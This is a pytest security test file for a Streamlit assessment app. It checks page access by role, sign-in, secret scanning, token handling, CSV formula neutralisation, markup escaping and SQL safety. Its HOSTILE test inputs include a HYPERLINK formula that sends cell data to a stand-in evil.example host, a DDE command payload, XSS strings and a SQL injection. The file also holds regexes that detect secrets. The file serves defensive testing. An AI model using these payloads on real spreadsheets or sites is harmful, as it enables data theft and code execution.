"""Security checks named in docs/security.md: page access, staff sign-in, secrets in the
repository, token handling, formula-safe exports, markup escaping, SQL and upload limits."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
import subprocess
import tomllib
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from sqlalchemy import select, update
from streamlit.testing.v1 import AppTest

from app_pages.markup import md_escape
from app_pages.staff_session import SESSION_KEY
from assessment.access.accounts import ROLES, StaffUser, add_user, authenticate
from assessment.delivery.engine import AdaptiveEngine
from assessment.delivery.service import Delivery
from assessment.demo import ensure_active_model
from assessment.errors import InvitationError, LoginError
from assessment.persistence import store as store_module
from assessment.persistence.backup import backup_database
from assessment.persistence.staff_tables import StaffSessionRow
from assessment.persistence.store import Store
from assessment.persistence.tables import User
from assessment.recruiting.exports import FORMULA_PREFIXES
from assessment.recruiting.invitations import InvitationRequest as Request
from assessment.recruiting.invitations import invite_candidates
from assessment.recruiting.overview import candidate_overview
from assessment.session_values import CandidateSession
from items import load_bank
from items.rules import AnyItem
from tests.app.staff import sign_in_as
from tests.session_ids import CANDIDATE_SEEDS, seeded_ids
from tests.stores import app_database

ROOT = Path(__file__).resolve().parents[1]
PAGES = ROOT / "app_pages"
PUBLIC_PAGES = {"login.py", "candidate.py"}
PRODUCT_CODE = ("app.py", "app_pages", "assessment", "cli", "items", "reports", "scoring")
TIMEOUT = 60
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    ":red[**big**] $x^2$ <img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE candidates;--",
)


# ---------------------------------------------------------------------------- fixtures
@pytest.fixture
def app_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    """An empty migrated SQLite store that the app under test uses (SJT_DATABASE_URL)."""
    with app_database(tmp_path, monkeypatch) as store:
        yield store


@pytest.fixture
def sqlite_store(tmp_path: Path) -> Iterator[Store]:
    store = Store.open(f"sqlite:///{tmp_path / 'security.db'}")
    yield store
    store.engine.dispose()


# ------------------------------------------------------------------- pages and roles
def routed_staff_pages() -> dict[str, tuple[str, ...]]:
    """Page file name → roles allowed, read from ``STAFF_PAGES`` in app.py."""
    tree = ast.parse((ROOT / "app.py").read_text(encoding="utf-8"))
    pages: dict[str, tuple[str, ...]] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and any(
            isinstance(target, ast.Name) and target.id == "STAFF_PAGES" for target in node.targets
        ):
            assert isinstance(node.value, ast.List)
            for entry in node.value.elts:
                assert isinstance(entry, ast.Tuple)
                page, roles = entry.elts
                assert isinstance(page, ast.Call)
                path = ast.literal_eval(page.args[0])
                pages[Path(path).name] = tuple(ast.literal_eval(roles))
    return pages


def page_modules() -> list[str]:
    """Files in app_pages/ that render a page (call ``render()`` at module level)."""
    found = []
    for path in sorted(PAGES.glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in tree.body:
            call = node.value if isinstance(node, ast.Expr) else None
            if isinstance(call, ast.Call) and getattr(call.func, "id", None) == "render":
                found.append(path.name)
    return found


STAFF_PAGES = sorted((set(page_modules()) | set(routed_staff_pages())) - PUBLIC_PAGES)
WRONG_ROLES = [
    (page, role)
    for page in STAFF_PAGES
    for role in ROLES
    if role != "admin" and role not in routed_staff_pages().get(page, ("admin",))
]


def rendered_types(app: AppTest) -> list[str]:
    """The type of every element the page put on screen (main area and sidebar)."""
    types: list[str] = []

    def walk(node: object) -> None:
        for child in getattr(node, "children", {}).values():
            if hasattr(child, "children"):
                walk(child)
            else:
                types.append(str(getattr(child, "type", type(child).__name__)))

    walk(app.main)
    walk(app.sidebar)
    return types


def open_page(page: str, store: Store, user: StaffUser | None) -> AppTest:
    """Open a page file, signed in as ``user`` (a real account and staff session) if given."""
    app = AppTest.from_file(str(PAGES / page), default_timeout=TIMEOUT)
    if user is not None:
        sign_in_as(app, store, user.username, user.role)
    return app.run()


def test_every_staff_page_is_found() -> None:
    assert {"recruiter.py", "psychometrics.py"} <= set(STAFF_PAGES)
    assert set(routed_staff_pages()) <= set(page_modules())


SIGN_IN_FORM = ["info", "title", "caption", "text_input", "text_input", "button", "caption"]


@pytest.mark.parametrize("page", STAFF_PAGES)
def test_staff_pages_show_nothing_but_the_sign_in_form_to_anonymous_users(
    app_db: Store, page: str
) -> None:
    app = open_page(page, app_db, None)
    assert not app.exception
    assert [i.value for i in app.info] == ["Please sign in to see this page."]
    assert [t.value for t in app.title] == ["Staff sign-in"]
    assert sorted(rendered_types(app)) == sorted(SIGN_IN_FORM)


@pytest.mark.parametrize(("page", "role"), WRONG_ROLES)
def test_staff_pages_show_nothing_to_other_roles(app_db: Store, page: str, role: str) -> None:
    app = open_page(page, app_db, StaffUser("mallory", role))
    assert not app.exception
    assert [e.value for e in app.error] == ["Your role does not give access to this page."]
    assert rendered_types(app) == ["error"]


@pytest.mark.parametrize("page", STAFF_PAGES)
def test_staff_pages_check_the_role_before_any_other_call(page: str) -> None:
    """``render`` starts with ``require_role`` and nothing else runs at import time."""
    tree = ast.parse((PAGES / page).read_text(encoding="utf-8"))
    render = next(
        node for node in tree.body if isinstance(node, ast.FunctionDef) and node.name == "render"
    )
    first = render.body[0]
    call = first.value if isinstance(first, ast.Assign | ast.Expr) else None
    assert isinstance(call, ast.Call)
    assert getattr(call.func, "id", None) == "require_role"
    top_level_calls = [
        ast.unparse(node)
        for node in tree.body
        if isinstance(node, ast.Expr) and isinstance(node.value, ast.Call)
    ]
    assert top_level_calls == ["render()"]


def test_idle_staff_sessions_are_signed_out(app_db: Store) -> None:
    app = AppTest.from_file(str(PAGES / STAFF_PAGES[0]), default_timeout=TIMEOUT)
    user = sign_in_as(app, app_db, "admin", "admin")
    stale = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=31)
    with app_db.transaction() as db:
        db.execute(
            update(StaffSessionRow)
            .where(StaffSessionRow.id == user.session_id)
            .values(last_seen_at=stale)
        )
    app.run()
    assert [i.value for i in app.info][:2] == [
        "Please sign in to see this page.",
        "You were signed out after 30 minutes without activity.",
    ]
    assert SESSION_KEY not in app.session_state


# --------------------------------------------------------------------- staff sign-in
def test_sign_in_starts_from_an_empty_session_state(app_db: Store) -> None:
    add_user(app_db, "rita", "correct-horse-battery", "recruiter", actor="test")
    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=TIMEOUT)
    app.session_state["planted"] = "set before sign-in"
    app.run()
    app.text_input[0].input("rita")
    app.text_input[1].input("correct-horse-battery")
    app.button[0].click().run()
    assert [t.value for t in app.title] == ["Candidates"]
    assert isinstance(app.session_state[SESSION_KEY], int)
    assert "planted" not in app.session_state


def test_passwords_are_stored_as_argon2id_hashes(sqlite_store: Store) -> None:
    add_user(sqlite_store, "rita", "correct-horse-battery", "recruiter")
    with sqlite_store.transaction() as db:
        stored = db.scalar(select(User.password_hash).where(User.username == "rita"))
    assert stored is not None
    assert stored.startswith("$argon2id$")
    assert "correct-horse-battery" not in stored


def test_login_errors_do_not_tell_whether_the_user_exists(sqlite_store: Store) -> None:
    add_user(sqlite_store, "rita", "correct-horse-battery", "recruiter")
    messages = []
    for username in ("rita", "nobody"):
        with pytest.raises(LoginError) as caught:
            authenticate(sqlite_store, username, "wrong password!", client=username)
        messages.append(str(caught.value))
    assert messages[0] == messages[1]
    assert {e.action for e in sqlite_store.audit_entries()} >= {"login.failed", "login.unknown"}


def test_short_passwords_are_refused(sqlite_store: Store) -> None:
    with pytest.raises(Exception, match="at least"):
        add_user(sqlite_store, "rita", "short", "recruiter")


# ------------------------------------------------------------------ secrets in the repo
SECRET_PATTERNS = {
    "private key": re.compile(r"-----BEGIN (?:[A-Z]+ )*PRIVATE KEY-----"),
    "AWS access key": re.compile(r"\bAKIA[0-9A-Z]{16}\b"),
    "GitHub token": re.compile(r"\bgh[pousr]_[A-Za-z0-9]{36,}\b"),
    "Slack token": re.compile(r"\bxox[abprs]-[A-Za-z0-9-]{10,}"),
    "Stripe key": re.compile(r"\bsk_live_[A-Za-z0-9]{16,}"),
    "password in a URL": re.compile(r"\b[a-z][a-z0-9+.-]*://[^/\s:@'\"]+:[^/\s@'\"{}]{3,}@"),
}
ASSIGNED_SECRET = re.compile(
    r"""(?i)\b(?:password|passwd|secret|api_key|apikey|access_token)\s*[:=]\s*["'][^"'\s]{8,}["']"""
)


def repository_files() -> list[Path]:
    """Files git would commit (tracked plus untracked, not ignored)."""
    try:
        listed = subprocess.run(
            ["git", "ls-files", "--cached", "--others", "--exclude-standard", "-z"],
            cwd=ROOT, capture_output=True, check=True, timeout=60,
        ).stdout.decode("utf-8").split("\0")  # fmt: skip
    except (OSError, subprocess.SubprocessError):
        pytest.skip("git is not available to list the repository's files")
    return [ROOT / name for name in listed if name and (ROOT / name).is_file()]


def test_no_secrets_are_committed() -> None:
    findings = []
    for path in repository_files():
        if path.stat().st_size > 2_000_000:
            continue
        try:
            content = path.read_text(encoding="utf-8")
        except UnicodeDecodeError:
            continue  # binary (fonts, images)
        relative = path.relative_to(ROOT).as_posix()
        for what, pattern in SECRET_PATTERNS.items():
            findings += [f"{relative}: {what}" for _ in pattern.finditer(content)]
        if relative.split("/")[0] in PRODUCT_CODE:  # tests may hold fixture passwords
            findings += [f"{relative}: {m.group(0)}" for m in ASSIGNED_SECRET.finditer(content)]
    assert not findings


def test_streamlit_secrets_file_is_not_committed() -> None:
    names = {path.relative_to(ROOT).as_posix() for path in repository_files()}
    assert ".streamlit/secrets.toml" not in names
    assert not any(name.endswith((".pem", ".key", ".p12", ".env")) for name in names)


# ------------------------------------------------------------------------ tokens
def test_invitation_tokens_reach_neither_the_database_nor_the_audit_log(
    sqlite_store: Store, tmp_path: Path
) -> None:
    created = invite_candidates(
        sqlite_store, [Request("Ada", "ada@example.com", None, None)], actor="rita"
    )
    token = created[0][1]
    backup = backup_database(sqlite_store, tmp_path / "all.jsonl")
    everything = backup.path.read_text(encoding="utf-8")
    assert token not in everything
    assert sqlite_store.audit_entries("invite")
    assert sqlite_store.resolve_token(token).candidate_id == created[0][0]


# --------------------------------------------------------------- injection and markup
def test_scores_export_neutralises_formulas_in_every_text_cell(sqlite_store: Store) -> None:
    for n, name in enumerate(HOSTILE):
        candidate = sqlite_store.add_candidate(name, f"{name[:1]}x{n}@example.com", name)
        sqlite_store.create_invitation(candidate)
    from assessment.recruiting.exports import scores_csv

    rows = list(csv.reader(io.StringIO(scores_csv(candidate_overview(sqlite_store)))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    names = {row[rows[0].index("display_name")] for row in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names


def test_tables_on_pages_offer_no_built_in_csv_download() -> None:
    """Streamlit's own "Download as CSV" on a table wrote the names as typed (=HYPERLINK…),
    with no audit entry and no session check; ``client.disableDataExport`` (Streamlit's
    supported switch) removes it from every st.dataframe and st.data_editor."""
    from streamlit import config as streamlit_config

    assert "client.disableDataExport" in streamlit_config.get_config_options()
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_escaping_leaves_no_active_character(text: str) -> None:
    escaped = md_escape(text)
    bare = re.sub(r"\\.", "", escaped)  # drop every escaped character
    assert not re.search(r"[<>\[\]()*_`#|~:$=!&\"'\\-]", bare), escaped
    assert "http:" not in escaped  # no autolink either
    literal = re.sub(r"\\(.)", r"\1", escaped).replace("\u200b", "")
    assert literal == text.replace("\t", " ").strip()


FIXED_MARKUP = {"candidate_browser.py"}
"""Pages' helpers whose ``st.html`` markup is fixed in the module (data only as JSON)."""


def test_no_page_renders_raw_html() -> None:
    offenders = [
        f"{path.name}:{number}"
        for path in [ROOT / "app.py", *sorted(PAGES.glob("*.py"))]
        if path.name not in FIXED_MARKUP
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"unsafe_allow_html\s*=\s*True|st\.html\(|components\.html\(", line)
    ]
    assert not offenders


def test_the_fixed_scripts_carry_data_only_as_escaped_json() -> None:
    from app_pages.candidate_browser import new_item_script

    hostile = '</script><script>alert(1)</script>"'
    script = new_item_script(hostile, hostile)
    assert script.count("</script>") == 1
    assert script.count("<script>") == 1
    assert "alert(1)" in script  # kept as data inside a JSON string


@pytest.mark.parametrize("name", HOSTILE)
def test_sql_metacharacters_are_stored_literally(sqlite_store: Store, name: str) -> None:
    candidate = sqlite_store.add_candidate(name, "x@example.com", name)
    stored = sqlite_store.candidate(candidate)
    assert stored is not None
    assert stored.display_name == name
    assert sqlite_store.count_candidates() == 1
    with pytest.raises(InvitationError, match="unknown"):
        sqlite_store.resolve_token(f"{name}' OR '1'='1")


REVIEWED_SQL = {
    ("assessment/persistence/db.py", 'cursor.execute(f"PRAGMA busy_timeout={busy_timeout_ms()}")'):
        "busy_timeout_ms() returns an int; PRAGMA takes no bound parameters",
}  # fmt: skip
"""String-built SQL that was reviewed: (file, line) → why it is safe."""
SQL_FROM_STRINGS = re.compile(
    r"""\b(text|exec_driver_sql|execute)\(\s*(?:f["']|["'][^"']*["']\s*[%+]|["'][^"']*["']\.format)"""
)


def test_product_code_builds_no_sql_from_strings() -> None:
    """SQL goes through SQLAlchemy expressions or ``text()`` with bound parameters only."""
    findings = []
    for part in PRODUCT_CODE:
        base = ROOT / part
        for path in [base] if base.is_file() else sorted(base.rglob("*.py")):
            relative = path.relative_to(ROOT).as_posix()
            content = path.read_text(encoding="utf-8")
            sqlalchemy_text = re.search(
                r"from sqlalchemy import (?:\([^)]*|[^\n]*)\btext\b|sqlalchemy\.text", content
            )
            for line in content.splitlines():
                match = SQL_FROM_STRINGS.search(line)
                if match is None or (relative, line.strip()) in REVIEWED_SQL:
                    continue
                if match.group(1) == "text" and not sqlalchemy_text:
                    continue  # another function called text (the page wording)
                findings.append(f"{relative}: {line.strip()}")
    assert not findings


# ---------------------------------------------------------------------- uploads
def test_uploads_are_limited_in_size_everywhere() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] <= 20
    assert config["client"]["showErrorDetails"] == "none"
    unlimited = []
    for path in sorted(PAGES.glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and getattr(node.func, "attr", None) == "file_uploader"
                and not any(keyword.arg == "max_upload_size" for keyword in node.keywords)
            ):
                unlimited.append(f"{path.name}:{node.lineno}")
    assert not unlimited


# -------------------------------------------------------------- item-bank exposure
def first_item_page(store: Store) -> tuple[AppTest, str]:
    """Run the candidate page in English up to the first item; the app and that item's id."""
    candidate = store.add_candidate("Test candidate")
    _, token = store.create_invitation(candidate)
    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=TIMEOUT)
    app.query_params["token"] = token
    app.run()
    app.button[0].click().run()  # English
    app.checkbox[0].check()
    app.button[0].click().run()  # consent
    app.radio[0].set_value("B")
    app.button[0].click().run()  # practice answer checked
    app.button[1].click().run()  # start the test
    assert not app.exception, app.exception
    assert app.radio, "the first item should be on screen"
    key = next(iter(app.radio)).key
    assert key is not None, "the item's radio should have a key"
    return app, key.split("-", 1)[1]


@pytest.mark.parametrize("seed", CANDIDATE_SEEDS)
def test_the_candidate_page_never_shows_credits_or_rationales(
    app_db: Store, monkeypatch: pytest.MonkeyPatch, seed: int
) -> None:
    """The first item under many session ids (each seed can put another item first)."""
    monkeypatch.setattr(store_module, "new_id", seeded_ids(seed))
    bank = load_bank()
    ensure_active_model(app_db, bank)
    app, item_id = first_item_page(app_db)
    assert_no_credit_or_rationale_shown(app, bank[item_id])
    assert len(app_db.audit_entries()) == 1  # only the model activation; nothing about answers


CREDIT_SCENARIOS = sorted(item.id for item in load_bank() if "credit" in item.scenario.en.lower())
"""Items whose scenario itself mentions credit (the old word search failed on these)."""


def test_some_scenarios_mention_credit() -> None:
    """The case below is not empty: the bank has scenarios such as "50 yuan of credit"."""
    assert CREDIT_SCENARIOS


@pytest.mark.parametrize("item_id", CREDIT_SCENARIOS)
def test_an_item_that_mentions_credit_shows_no_credits_either(
    app_db: Store, monkeypatch: pytest.MonkeyPatch, item_id: str
) -> None:
    """The exact check passes where a scenario's own words contain "credit"."""
    original = AdaptiveEngine.next_item

    def forced_first(
        engine: AdaptiveEngine, session: CandidateSession, rng: np.random.Generator
    ) -> str | None:
        return item_id if not session.responses else original(engine, session, rng)

    monkeypatch.setattr(AdaptiveEngine, "next_item", forced_first)
    bank = load_bank()
    ensure_active_model(app_db, bank)
    app, shown_id = first_item_page(app_db)
    assert shown_id == item_id
    assert_no_credit_or_rationale_shown(app, bank[item_id])


def assert_no_credit_or_rationale_shown(app: AppTest, item: AnyItem) -> None:
    """Exact check of one item on the candidate page.

    The options must read exactly ``<id>. <text>`` (nothing appended, so no credit); no
    rationale of the item (in either language) may appear; and once the item's own scenario
    and option texts are taken out, no credit or rationale label may remain, so the check
    cannot trip over a scenario that mentions credit.
    """
    expected_labels = [f"{option.id}. {option.text.en}" for option in item.options]
    for radio in app.radio:
        assert [md_unescape(str(label)) for label in radio.options] == expected_labels
    shown = [str(e.value) for e in (*app.markdown, *app.subheader, *app.caption)]
    page = md_unescape("\n".join(shown))
    assert item.scenario.en in page
    for option in item.options:
        assert option.rationale.en not in page
        assert option.rationale.zh not in page
    rest = page.replace(item.scenario.en, "")
    for option in item.options:
        rest = rest.replace(option.text.en, "")
    assert not re.search(r"credit|rationale|学分|理由", rest, flags=re.IGNORECASE), rest


def test_the_candidate_seeds_reach_several_first_items(
    app_db: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The seeds of the test above are worth running: they put different items first."""
    bank = load_bank()
    ensure_active_model(app_db, bank)
    delivery = Delivery.from_store(app_db, bank)
    first: set[str] = set()
    for seed in CANDIDATE_SEEDS:
        monkeypatch.setattr(store_module, "new_id", seeded_ids(seed))
        _, token = app_db.create_invitation(app_db.add_candidate(f"Candidate {seed}"))
        session_id = delivery.start(delivery.open(token), "en")
        view = delivery.current_item(session_id)
        assert view is not None
        first.add(view.item.id)
    assert len(first) >= 3, first


def md_unescape(text: str) -> str:
    """Text as a reader sees it: markdown escapes and zero-width spaces removed."""
    return re.sub(r"\\(.)", r"\1", text).replace("\u200b", "")


# ------------------------------------------------------------------- the threat model
def test_threat_model_names_only_existing_tests() -> None:
    """Every ``tests/…::name`` in docs/security.md is a test function that exists."""
    document = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    references = set(re.findall(r"(tests/[\w/]+\.py)::(\w+)", document))
    assert len(references) > 40
    missing = []
    for file, name in sorted(references):
        path = ROOT / file
        functions = (
            {
                node.name
                for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
                if isinstance(node, ast.FunctionDef)
            }
            if path.exists()
            else set()
        )
        if name not in functions:
            missing.append(f"{file}::{name}")
    assert not missing
